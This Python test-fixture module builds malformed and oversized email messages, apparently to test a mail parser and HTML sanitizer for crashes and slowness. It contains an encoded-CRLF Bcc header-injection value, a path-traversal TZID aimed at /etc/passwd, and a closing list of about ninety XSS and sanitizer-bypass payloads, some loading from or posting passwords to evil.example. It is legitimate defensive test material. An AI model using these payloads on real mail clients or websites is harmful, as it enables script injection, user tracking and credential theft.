"""Messages that somebody means ill with, made by code: too deep, too long, too many, wrongly encoded, full of scripts."""

from __future__ import annotations

import base64
import random
from collections.abc import Iterator

REPORT = (
    b"Content-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n--b\r\n"
    b"Content-Type: message/delivery-status\r\n\r\n"
)
HEAD = b"From: Eve <eve@evil.example>\r\nTo: rep@ringside.example\r\nSubject: Hi\r\nMIME-Version: 1.0\r\n"


def html_message(html: str | bytes) -> bytes:
    """A message whose body is this HTML."""
    body = html.encode("utf-8") if isinstance(html, str) else html
    return HEAD + b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + body


def text_message(text: bytes, **headers: str) -> bytes:
    """A message whose body is this text. Headers have underscores for hyphens."""
    more = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in headers.items())
    return HEAD + more.encode("utf-8") + b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + text


def nested(depth: int, inner: bytes = b"Content-Type: text/plain\r\n\r\nat the bottom") -> bytes:
    """Multiparts within multiparts."""
    opened = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (at, at) for at in range(depth))
    return HEAD + opened + inner + b"".join(b"\r\n--b%d--\r\n" % at for at in reversed(range(depth)))


def nested_messages(depth: int) -> bytes:
    """Messages within messages."""
    return HEAD + b"Content-Type: message/rfc822\r\n\r\n" * depth + b"Subject: bottom\r\n\r\nat the bottom"


def broken_messages() -> Iterator[tuple[str, bytes]]:
    """Each with a name. None may raise or take long."""
    yield "nothing", b""
    yield "a line break", b"\r\n"
    yield "a NUL", b"\0"
    yield "noise", random.Random(7).randbytes(200_000)
    yield "noise in a body", HEAD + b"Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n" + random.Random(8).randbytes(100_000)
    yield "nested deeply", nested(1000)
    yield "nested messages", nested_messages(1000)
    yield "nested with one boundary", HEAD + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n' * 1000
    yield "many parts", HEAD + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + b"--b\r\n\r\nx\r\n" * 50_000
    yield "many almost boundaries", HEAD + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n' + b"--bx\r\n" * 200_000
    yield "boundary of spaces", HEAD + b'Content-Type: multipart/mixed; boundary="   "\r\n\r\n--   \r\n\r\nx\r\n--   --'
    yield "boundary of nothing", HEAD + b'Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\nx\r\n----'
    yield "huge boundary", HEAD + b'Content-Type: multipart/mixed; boundary="' + b"b" * 100_000 + b'"\r\n\r\n--' + b"b" * 100_000
    yield "huge header", b"Subject: " + b"x" * 5_000_000 + b"\r\n\r\nbody"
    yield "huge folded header", b"Subject: x" + b"\r\n x" * 500_000 + b"\r\n\r\nbody"
    yield "many headers", b"".join(b"X-%d: y\r\n" % at for at in range(200_000)) + b"\r\nbody"
    yield "many subjects", b"Subject: one\r\n" * 1000 + b"\r\nbody"
    yield "many recipients", b"To: " + b", ".join(b"p%d@x.example" % at for at in range(50_000)) + b"\r\n\r\nbody"
    yield "comments in comments", b"From: " + b"(" * 100_000 + b"a@b.example\r\n\r\nbody"
    yield "open quotes", b'From: "' * 50_000 + b"a@b.example\r\n\r\nbody"
    yield "angles", b"From: " + b"<" * 100_000 + b"a@b.example" + b">" * 100_000 + b"\r\n\r\n"
    yield "groups", b"To: " + b"g:" * 50_000 + b"a@b.example;\r\n\r\n"
    yield "encoded words without end", b"Subject: " + b"=?utf-8?q?" * 50_000 + b"\r\n\r\nbody"
    yield "encoded words in a row", b"Subject: " + b"=?utf-8?b?QQ==?= " * 50_000 + b"\r\n\r\nbody"
    yield (
        "encoded words of no charset",
        b"Subject: =?x-none?q?a=?= =?utf-8?b?!!!?= =?hex?q?00?= =??q??= =?utf-8?x?a?=\r\n\r\nbody",
    )
    yield (
        "an encoded line break",
        b"Subject: =?utf-8?q?a=0D=0ABcc:_eve@evil.example=00?=\r\nFrom: =?utf-8?q?x=0D=0A?= <a@b.example>\r\n\r\n",
    )
    yield (
        "parameters in pieces",
        HEAD + b"Content-Type: text/plain; " + b"; ".join(b"name*%d*=utf-8''a" % at for at in range(5000)),
    )
    yield (
        "parameters with wild numbers",
        HEAD + b"Content-Type: text/plain; name*" + b"9" * 6000 + b"=a; name*0*=x'y; charset*=%ff''%ff\r\n\r\n",
    )
    yield "semicolons", HEAD + b"Content-Type: text/plain" + b';"' * 100_000 + b"\r\n\r\nbody"
    yield "no such type", HEAD + b"Content-Type: \xff\xfe/; charset=\0\r\nContent-Transfer-Encoding: \xff\r\n\r\n\xff\xfe"
    yield "no such encoding", HEAD + b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base65\r\n\r\nbody"
    for codec in (
        "hex",
        "zlib",
        "base64",
        "rot13",
        "idna",
        "punycode",
        "unicode_escape",
        "undefined",
        "utf-7",
        "utf-16",
        "../../x",
    ):
        yield (
            f"charset {codec}",
            HEAD + f"Content-Type: text/plain; charset={codec}\r\n\r\n".encode() + b"+ADw-script+AD4-\\x3c" * 2000,
        )
    yield "NULs", b"Subject: a\0b\r\nFrom: a\0@b.example\r\nMessage-ID: <a\0@b>\r\n\r\nbo\0dy"
    yield "lone surrogates", text_message(b"\xed\xa0\x80 \xed\xbf\xbf", Subject="x") + b"=?utf-8?q?=ED=A0=80?="
    yield (
        "truncated base64",
        HEAD + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nQUJDR" + b"=" * 100_000,
    )
    yield (
        "much base64",
        HEAD + b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(b"<b>" * 1_000_000),
    )
    yield "much quoted-printable", HEAD + b"Content-Transfer-Encoding: quoted-printable\r\n\r\n" + b"=" * 2_000_000
    yield "uuencoded noise", HEAD + b"Content-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 x\r\n" + b"\xff" * 100_000
    yield "wild dates", b"Date: Thu, 99 Foo 99999999999 99:99:99 +99999999\r\nReceived: ;\r\n\r\n"
    yield (
        "long ids",
        b"Message-ID: <" + b"x" * 100_000 + b">\r\nReferences: " + b"<a@b>" * 100_000 + b"\r\nIn-Reply-To: " + b"<" * 90_000,
    )
    yield "line ends of all kinds", b"Subject: a\rFrom: b@c.example\n\r\n\rbody\r\r\n\n"
    yield "headers alone", b"Subject: a"
    yield "a wrong line between headers", b"Subject: a\r\nno header here\r\nFrom: b@c.example\r\n\r\nbody"
    yield "quotes", text_message(b"> " * 500_000)
    yield "quoted lines", text_message(b"> a\n" * 100_000)
    yield "almost introductions", text_message(b"On 1 2 3 a@b wrote\n" * 50_000)
    yield "an endless introduction", text_message(b"On " + b"Am schrieb " * 50_000 + b":")
    yield "spaces", text_message(b" " * 3_000_000 + b"x")
    yield "dashes", text_message(b"-" * 2_000_000)
    yield "away words", text_message(b"until until until bis bis 1.1. " * 30_000, Auto_Submitted="auto-replied")
    yield "thanks", text_message(b"thanks " * 100_000, Auto_Submitted="no")
    yield "addresses in a bounce", text_message(b"a@" * 300_000, X_Failed_Recipients="x@" + "y." * 20_000)
    yield "flowed", HEAD + b"Content-Type: text/plain; format=flowed\r\n\r\n" + b"a \n" * 300_000
    yield (
        "a report of nothing",
        HEAD + REPORT + b"\n\n" * 100_000,
    )
    yield (
        "many recipients failed",
        HEAD + (REPORT + b"Action: failed\r\nFinal-Recipient: rfc822; a@b.example\r\nStatus: 5.1.1\r\n\r\n" * 20_000),
    )
    yield (
        "a wrong calendar",
        HEAD
        + b"Content-Type: text/calendar; method=REQUEST\r\n\r\n"
        + b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:99999999T999999\r\nUID:\r\n",
    )
    yield (
        "a large calendar",
        HEAD
        + b"Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\n"
        + (b"BEGIN:VEVENT\r\nUID:x\r\nDTSTART:20260101T000000Z\r\nEND:VEVENT\r\n" * 10_000),
    )
    yield (
        "a long rule",
        HEAD + b"Content-Type: text/calendar\r\n\r\n" + calendar(b"RRULE:FREQ=SECONDLY;BYSECOND=" + b"1," * 20_000 + b"1\r\n"),
    )
    yield (
        "many attendees",
        HEAD + b"Content-Type: text/calendar\r\n\r\n" + calendar(b"ATTENDEE;CN=x:mailto:a@b.example\r\n" * 8_000),
    )
    yield (
        "a wild zone",
        HEAD + b"Content-Type: text/calendar\r\n\r\n" + calendar(b"DTSTART;TZID=../../etc/passwd:20260101T000000\r\n"),
    )
    for name, html in (
        ("divs", "<div>" * 300_000),
        ("fonts", "<font><a>" * 100_000),
        ("tables", "<table><tr><td>" * 50_000),
        ("paragraphs", "<p>x" * 100_000),
        ("unclosed tags", "<" * 300_000),
        ("one attribute", "<p " + "a=b " * 300_000 + ">"),
        ("one long attribute", '<p style="' + "color:red;" * 200_000 + '">'),
        ("entities", "&amp;" * 100_000 + "&#x;" * 10_000),
        ("comments", "<!--" * 300_000),
        ("almost closed", "<div></div" * 100_000),
        ("many images", '<img src="http://x.example/a.png">' * 15_000),
        ("wide text", "word " * 300_000),
        ("quotes in quotes", '<blockquote type="cite">' * 1500 + "x"),
    ):
        yield f"html of {name}", html_message(html)


def calendar(lines: bytes) -> bytes:
    """A request with these lines in its meeting."""
    return (
        b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:u1\r\nDTSTAMP:20260101T000000Z\r\n"
        + lines
        + b"END:VEVENT\r\nEND:VCALENDAR\r\n"
    )


# Each tries to run something in the page, to leave its frame, or to load something from elsewhere.
SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=//evil.example/><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src=http://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='http://evil.example/pixel.gif 1x'>",
    "<img lowsrc=http://evil.example/x dynsrc=http://evil.example/x>",
    "<picture><source srcset=http://evil.example/x></picture>",
    "<video poster=http://evil.example/x src=http://evil.example/x></video>",
    "<audio src=http://evil.example/x autoplay></audio>",
    "<table background=http://evil.example/x><td background='javascript:alert(1)'>x</table>",
    "<body background=http://evil.example/x onload=alert(1)>",
    "<div style='background:url(http://evil.example/x)'>x</div>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(//evil.example/x)'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='b\\61 ckground:url(//evil.example)'>x</div>",
    "<div style='color:red;/*x*/background:u/**/rl(//evil.example)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>Log in</div>",
    "<div style='margin-top:-5000px'>x</div>",
    "<div style='list-style:url(//evil.example/x)'>x</div>",
    "<div style='content:url(//evil.example/x)'>x</div>",
    "<div style=\"font-family:'x';background:url('//evil.example')\">x</div>",
    "<p style='color:red&quot; onclick=&quot;alert(1)'>x</p>",
    "<div onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xss id=x onfocus=alert(1) tabindex=1>x</xss>",
    "<template><script>alert(1)</script></template>",
    "<p id=__proto__ name=document class='modal open'>x</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "</div></body></html><script>alert(1)</script>",
    "<p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src=cid:x>",
    "<img src='cid:\"onerror=alert(1) x=\"'>",
    "<a title='x\"onmouseover=\"alert(1)' href=https://a.example>x</a>",
    "<img src=`javascript:alert(1)`>",
    "<blockquote cite=javascript:alert(1) type=cite>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<portal src=//evil.example></portal>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<ſcript>alert(1)</ſcript>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
